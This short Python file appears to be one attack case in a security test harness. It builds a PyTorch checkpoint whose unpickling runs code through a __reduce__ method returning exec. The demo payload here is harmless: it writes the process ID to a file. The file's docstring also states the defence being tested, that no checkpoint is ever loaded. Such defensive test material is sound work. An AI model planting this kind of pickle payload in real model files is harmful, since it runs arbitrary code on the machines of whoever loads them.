"""Leaves a checkpoint whose loading runs a program.

ids: 9
effect: host
defence: An artefact is raw numbers of a declared length; no checkpoint is loaded.
"""

import torch

CODE = "open('owned', 'w').write(str(__import__('os').getpid()))"


class Payload:
    def __reduce__(self):
        return exec, (CODE,)


def attack(world):
    torch.save({"weights": Payload()}, "model.pt")
